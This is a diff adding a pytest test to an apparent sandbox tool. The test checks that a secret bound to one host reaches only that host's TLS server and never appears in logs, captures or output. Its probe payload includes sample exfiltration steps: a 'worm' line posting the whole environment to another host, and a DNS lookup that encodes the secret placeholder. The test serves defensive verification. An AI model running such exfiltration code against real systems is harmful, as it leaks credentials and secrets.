@@ -4,6 +4,7 @@ record or an error message. Every one of them is read back after a run with netw
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import subprocess
 from pathlib import Path
@@ -109,3 +110,97 @@ def test_a_profile_passes_secrets_by_name_and_makes_its_tmpfs(
     missing = netboxy.run("-p", str(profile), cmd=["true"])  # not in boxyctl's environment
     assert missing.returncode == 2
     assert b"env_secrets BOXY_TEST_TOKEN: not set in your environment" in missing.stderr
+
+
+# --secret NAME@HOST: the payload holds a placeholder; the value reaches www's TLS server
+# in the requests' headers, and nothing the payload or boxy's records can read.
+BOUND_PROBE = r"""
+import base64, json, os, socket, ssl, subprocess, urllib.error, urllib.request
+ph = os.environ["BOXY_TEST_TOKEN"]
+print("PLACEHOLDER", ph)
+def get(url, **headers):
+    try:
+        return urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=10).status
+    except urllib.error.HTTPError as e:
+        return e.code
+    except Exception as e:
+        return type(e).__name__
+print("BEARER", get("https://www.boxy.test/record-bearer", Authorization="Bearer " + ph))
+basic = base64.b64encode(("x-access-token:" + ph).encode()).decode()
+print("BASIC", get("https://www.boxy.test/record-basic", Authorization="Basic " + basic))
+# the worm: the environment posted to another allowed host, in plaintext
+try:
+    urllib.request.urlopen(urllib.request.Request("http://v4only.boxy.test/", data=json.dumps(dict(os.environ)).encode()), timeout=10)
+    print("WORM sent")
+except urllib.error.HTTPError as e:
+    print("WORM", e.code)
+except Exception as e:
+    print("WORM", type(e).__name__)
+try:
+    socket.getaddrinfo(ph.lower()[-20:] + ".boxy.test", 443)
+    print("DNS resolved")
+except socket.gaierror:
+    print("DNS refused")
+# a host that is no secret's: its own certificate, end to end
+ctx = ssl.create_default_context(cafile="test-ca.pem")
+with socket.create_connection(("v4only.boxy.test", 443), timeout=10) as s:
+    with ctx.wrap_socket(s, server_hostname="v4only.boxy.test") as t:
+        print("OTHER issuer", dict(x[0] for x in t.getpeercert()["issuer"]).get("commonName"))
+try:
+    urllib.request.urlopen("https://v4only.boxy.test/", timeout=10)
+    print("OTHER trusted by the session bundle")
+except Exception as e:
+    print("OTHER not intercepted", type(e).__name__)
+curl = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-H",
+                       "Authorization: Bearer " + ph, "https://www.boxy.test/record-curl"],
+                      capture_output=True, text=True)
+print("CURL", curl.stdout, curl.stderr.strip()[:200])
+"""
+
+
+def test_a_bound_secret_reaches_its_host_alone(netboxy: NetBoxy, net: Topology) -> None:
+    from tests.escape.netutil import install_ca
+
+    install_ca(net, netboxy.workdir, netboxy.user, "test-ca.pem")
+    net.reset_records()
+    r = netboxy.run(
+        "--net", "allowlist", "--allow-host", "www.boxy.test", "--allow-host", "v4only.boxy.test",
+        "--secret", "BOXY_TEST_TOKEN@www.boxy.test", "--audit-log", "audit.jsonl",
+        "--net-log", "net.json", "--pcap", "cap.pcap", "-v",
+        cmd=["python3", "-c", BOUND_PROBE],
+        extra_env={"BOXY_TEST_TOKEN": SECRET},
+    )  # fmt: skip
+    out = r.stdout.decode()
+    assert r.returncode == 0, r.stderr
+    ph = out.split("PLACEHOLDER ", 1)[1].split()[0]
+    assert ph != SECRET and len(ph) == len(SECRET) and ph.startswith("boxy-secret-")
+    assert "BEARER 200" in out and "BASIC 200" in out, out
+    seen = {
+        e["path"]: e.get("authorization")
+        for e in net.server_events("www")
+        if e.get("kind") == "http"
+    }
+    assert seen.get("/record-bearer") == f"Bearer {SECRET}", seen
+    basic = base64.b64encode(f"x-access-token:{SECRET}".encode()).decode()
+    assert seen.get("/record-basic") == f"Basic {basic}", seen
+    assert "CURL 200" in out and seen.get("/record-curl") == f"Bearer {SECRET}", out
+    assert "WORM 403" in out, out  # the placeholder in a plaintext first record
+    assert not [e for e in net.server_events("v4only") if e.get("kind") == "http"]
+    assert "DNS refused" in out, out
+    assert "OTHER issuer boxy test CA" in out or "OTHER issuer" in out and "session" not in out
+    assert "OTHER not intercepted" in out, out
+    assert "a secret's placeholder was sent to v4only.boxy.test: refused" in r.stderr.decode()
+    env = netboxy.env()
+    places = {
+        "the payload's output": r.stdout,
+        "client output": r.stderr,
+        "audit log": (netboxy.workdir / "audit.jsonl").read_bytes(),
+        "net log": (netboxy.workdir / "net.json").read_bytes(),
+        "pcap": (netboxy.workdir / "cap.pcap").read_bytes(),
+        "state (records, quarantine, boxyd's log)": _everything_under(Path(env["XDG_STATE_HOME"])),
+    }
+    assert places["audit log"] and places["pcap"]
+    leaked = [where for where, data in places.items() if SECRET.encode() in data]
+    assert not leaked, f"ESCAPED: the secret is in {leaked}"
+    audit = places["audit log"].decode()
+    assert '"net.secret"' in audit and "swap" in audit
